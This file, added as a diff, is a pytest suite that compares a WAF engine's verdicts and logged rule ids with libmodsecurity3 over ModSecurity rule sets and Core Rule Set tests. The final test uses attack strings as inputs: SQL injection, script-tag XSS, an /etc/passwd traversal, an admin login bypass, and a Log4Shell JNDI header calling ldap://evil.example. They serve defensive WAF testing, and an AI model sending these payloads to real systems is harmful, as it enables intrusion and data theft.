@@ -1,0 +1,291 @@
+"""Differential: the engine against libmodsecurity3 itself (in process, through its C API).
+
+Each case is a small rule set and a request; the verdict (interruption status) and the set of
+rule ids the library logs must be the engine's. Skipped where libmodsecurity3 is not installed
+(Debian ``libmodsecurity3``).
+"""
+
+from __future__ import annotations
+
+import functools
+
+import pytest
+
+from palisade.waf import HttpRequest, HttpResponse, WafEngine
+from tests.shared_data import shared_path
+
+from . import libmodsec
+
+pytestmark = pytest.mark.skipif(not libmodsec.AVAILABLE, reason="libmodsecurity3 not installed")
+
+HEADERS = (("Host", "x"), ("User-Agent", "ua"))
+FORM = (("Content-Type", "application/x-www-form-urlencoded"),)
+
+# (name, rules, uri, extra headers, body, response)
+CASES: list[tuple[str, str, str, tuple[tuple[str, str], ...], bytes, object]] = [
+    (
+        "unset scalars yield an empty value",
+        'SecRule REQUEST_BODY "@rx ^$" "id:1,phase:2,pass"\n'
+        'SecRule &REQUEST_BODY "@eq 1" "id:2,phase:2,pass"\n'
+        'SecRule REQBODY_PROCESSOR "!@rx (?:URLENCODED|MULTIPART|XML|JSON)" "id:3,phase:1,pass"\n'
+        'SecRule &ARGS_POST "@eq 0" "id:5,phase:2,pass"\n'
+        'SecRule REQUEST_HEADERS:Nope "@rx ^$" "id:6,phase:1,pass"\n'
+        'SecRule &MATCHED_VAR "@eq 1" "id:7,phase:1,pass"',
+        "/",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "body access off skips phase 2",
+        "SecRequestBodyAccess Off\n"
+        'SecAction "id:1,phase:2,pass,msg:a"\nSecAction "id:2,phase:1,pass,msg:a"',
+        "/",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "chain starter setvar runs although the chain fails",
+        'SecRule ARGS "@rx ^(v.*)$" "id:1,phase:1,pass,capture,'
+        "setvar:'tx.seen_%{tx.1}=1',chain\"\n"
+        '    SecRule ARGS:never "@rx ." "t:none"\n'
+        'SecRule &TX:/^seen_/ "@eq 2" "id:2,phase:1,pass"',
+        "/?a=v1&b=v2&c=w",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "MATCHED_VARS accumulate until a rule does not match",
+        'SecRule ARGS:a "@rx x" "id:1,phase:1,pass"\nSecRule ARGS:b "@rx y" "id:2,phase:1,pass"\n'
+        'SecRule &MATCHED_VARS "@eq 2" "id:3,phase:1,pass"\n'
+        'SecRule MATCHED_VARS_NAMES "@streq ARGS:a" "id:4,phase:1,pass"\n'
+        'SecRule ARGS:b "@rx nomatch" "id:5,phase:1,pass"\n'
+        'SecRule MATCHED_VAR "@rx ^$" "id:6,phase:1,pass"',
+        "/?a=x&b=y",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "multiMatch logs per value, also when its chain fails",
+        'SecRule ARGS "@rx a" "id:1,phase:1,pass,nolog,multiMatch,t:none,t:lowercase"\n'
+        'SecRule ARGS "@rx a" "id:2,phase:1,pass,multiMatch,chain"\n    SecRule ARGS:zz "@rx x" ""',
+        "/?a=A&b=a&c=aa",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "ctl:ruleRemoveById spares SecAction",
+        'SecAction "id:1,phase:1,pass,nolog,ctl:ruleRemoveById=2-3"\n'
+        'SecAction "id:2,phase:1,pass,msg:a"\n'
+        'SecRule REQUEST_METHOD "@streq GET" "id:3,phase:1,pass"',
+        "/",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "skipAfter crosses phases",
+        'SecAction "id:1,phase:1,pass,nolog,skipAfter:END"\nSecAction "id:2,phase:1,pass,msg:a"\n'
+        'SecAction "id:3,phase:2,pass,msg:a"\nSecMarker END\nSecAction "id:4,phase:2,pass,msg:a"',
+        "/",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "an interruption ends the request phases, logging still runs",
+        'SecAction "id:1,phase:1,deny,status:406"\nSecAction "id:2,phase:2,pass,msg:a"\n'
+        'SecAction "id:3,phase:5,pass,msg:a"',
+        "/",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "allow",
+        'SecAction "id:1,phase:1,allow"\nSecAction "id:2,phase:1,pass,msg:a"\n'
+        'SecAction "id:3,phase:2,pass,msg:a"\nSecAction "id:4,phase:5,pass,msg:a"',
+        "/",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "allow:phase",
+        'SecAction "id:1,phase:1,allow:phase"\nSecAction "id:2,phase:1,pass,msg:a"\n'
+        'SecAction "id:3,phase:2,pass,msg:a"',
+        "/",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "block takes the default action",
+        'SecDefaultAction "phase:2,log,deny,status:418"\n'
+        'SecRule ARGS "@rx attack" "id:1,phase:2,block"',
+        "/?a=attack",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "DetectionOnly",
+        'SecRuleEngine DetectionOnly\nSecRule ARGS "@rx attack" "id:1,phase:1,deny"\n'
+        'SecAction "id:2,phase:2,pass,msg:a"\nSecRule ARGS "@rx attack" "id:3,phase:1,deny,nolog"',
+        "/?a=attack",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "what SecAction logs",
+        'SecAction "id:1,phase:1,pass"\nSecAction "id:2,phase:1,pass,msg:m"\n'
+        'SecAction "id:3,phase:1,block,nolog"\nSecAction "id:4,phase:1,pass,noauditlog,msg:m"',
+        "/",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "log flags in the order written",
+        'SecRule ARGS "@rx a" "id:1,phase:1,pass,noauditlog,log"\n'
+        'SecRule ARGS "@rx a" "id:2,phase:1,pass,auditlog,nolog"\n'
+        'SecRule ARGS "@rx a" "id:3,phase:1,pass,nolog,auditlog"\n'
+        'SecRule ARGS "@rx a" "id:4,phase:1,pass,log,noauditlog"',
+        "/?a=a",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "default transformations and t:none",
+        'SecDefaultAction "phase:1,log,pass,t:lowercase"\n'
+        'SecRule ARGS:q "@streq abc" "id:1,phase:1"\n'
+        'SecRule ARGS:q "@streq abc" "id:2,phase:1,t:none"',
+        "/?q=ABC",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "setvar forms",
+        'SecAction "id:1,phase:1,pass,nolog,setvar:tx.flag,setvar:tx.a=abc,setvar:tx.a=+5"\n'
+        'SecRule TX:flag "@streq 1" "id:2,phase:1,pass"\n'
+        'SecRule TX:a "@streq 5" "id:3,phase:1,pass"\n'
+        'SecRule &TX:nothing "@eq 0" "id:4,phase:1,pass"\n'
+        'SecRule TX:nothing "!@rx x" "id:5,phase:1,pass"',
+        "/",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "captures stay until overwritten",
+        'SecRule ARGS:a "@rx (x)(y)" "id:1,phase:1,pass,nolog,capture"\n'
+        'SecRule ARGS:b "@rx (z)" "id:2,phase:1,pass,nolog,capture"\n'
+        'SecRule TX:2 "@streq y" "id:3,phase:1,pass"',
+        "/?a=xy&b=z",
+        (),
+        b"",
+        None,
+    ),
+    (
+        "request variables",
+        'SecRule REQUEST_FILENAME "@streq /a b/c.php" "id:1,phase:1,pass"\n'
+        'SecRule REQUEST_BASENAME "@streq c.php" "id:2,phase:1,pass"\n'
+        'SecRule QUERY_STRING "@streq x=1" "id:5,phase:1,pass"\n'
+        'SecRule REQUEST_COOKIES:s "@streq 1" "id:7,phase:1,pass"\n'
+        'SecRule REQUEST_COOKIES_NAMES "@streq t" "id:8,phase:1,pass"\n'
+        'SecRule REQUEST_HEADERS_NAMES "@streq user-agent" "id:9,phase:1,pass,t:lowercase"',
+        "/a%20b/c.php?x=1",
+        (("Cookie", "s=1; t=2"),),
+        b"",
+        None,
+    ),
+    (
+        "urlencoded body",
+        "SecRequestBodyAccess On\n"
+        'SecRule ARGS_POST:x "@streq 1" "id:1,phase:2,pass"\n'
+        'SecRule REQUEST_BODY "@streq x=1" "id:2,phase:2,pass"\n'
+        'SecRule REQBODY_PROCESSOR "@streq URLENCODED" "id:3,phase:1,pass"\n'
+        'SecRule ARGS_NAMES "@streq x" "id:4,phase:2,pass"',
+        "/",
+        FORM,
+        b"x=1",
+        None,
+    ),
+    (
+        "response phases",
+        "SecResponseBodyAccess On\n"
+        'SecRule RESPONSE_STATUS "@streq 500" "id:1,phase:3,pass"\n'
+        'SecRule RESPONSE_BODY "@contains ORA-" "id:2,phase:4,pass"\n'
+        'SecRule RESPONSE_HEADERS:Content-Type "@contains html" "id:3,phase:3,pass"\n'
+        'SecRule RESPONSE_CONTENT_TYPE "@streq text/html" "id:4,phase:3,pass"',
+        "/",
+        (),
+        b"",
+        (500, (("Content-Type", "text/html; charset=x"),), b"ORA-00933"),
+    ),
+]
+
+
+def _request(uri: str, extra: tuple[tuple[str, str], ...], body: bytes) -> HttpRequest:
+    headers = HEADERS + extra
+    if body:
+        headers += (("Content-Length", str(len(body))),)
+    return HttpRequest("POST" if body else "GET", uri, "HTTP/1.1", headers, body)
+
+
+@pytest.mark.parametrize("case", CASES, ids=[case[0] for case in CASES])
+def test_same_verdict_and_logged_ids_as_libmodsecurity3(
+    case: tuple[str, str, str, tuple[tuple[str, str], ...], bytes, object],
+) -> None:
+    _, rules, uri, extra, body, response = case
+    text = f"SecRuleEngine On\n{rules}\n"
+    request = _request(uri, extra, body)
+    reference_response = response if isinstance(response, tuple) else None
+    status, ids, lines = libmodsec.Reference(text).run(
+        request.method, uri, request.headers, body, reference_response
+    )
+    ours_response = (
+        HttpResponse(response[0], "HTTP/1.1", response[1], response[2])
+        if isinstance(response, tuple)
+        else None
+    )
+    result = WafEngine.load([], before=text).evaluate(request, ours_response)
+    assert (result.status, result.logged_ids()) == (status, ids), "\n".join(lines)
+
+
+@functools.cache
+def _crs() -> tuple[libmodsec.Reference, WafEngine]:
+    crs = shared_path("data", "crs")
+    files = [str(crs / "crs-setup.conf.example")]
+    files += sorted(str(p) for p in (crs / "rules").glob("*.conf"))
+    before = "SecRuleEngine On\nSecRequestBodyAccess On\n"
+    return libmodsec.Reference(before, files), WafEngine.load(files, before=before)
+
+
+@pytest.mark.parametrize(
+    ("uri", "extra", "body"),
+    [
+        ("/index.html?page=2&sort=name", (("Cookie", "session=abc; theme=dark"),), b""),
+        ("/?id=1%27%20or%201=1--%20-", (), b""),
+        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", (), b""),
+        ("/?file=../../../../etc/passwd", (), b""),
+        ("/", (("X-Api-Version", "${jndi:ldap://evil.example/a}"),), b""),
+        ("/login", FORM, b"user=alice&password=correct+horse"),
+        ("/login", FORM, b"user=admin%27--&password=x"),
+    ],
+)
+def test_crs_pl1_same_as_libmodsecurity3(
+    uri: str, extra: tuple[tuple[str, str], ...], body: bytes
+) -> None:
+    reference, engine = _crs()
+    request = _request(uri, extra, body)
+    status, ids, lines = reference.run(request.method, uri, request.headers, body)
+    result = engine.evaluate(request)
+    assert (result.status, result.logged_ids()) == (status, ids), "\n".join(lines)
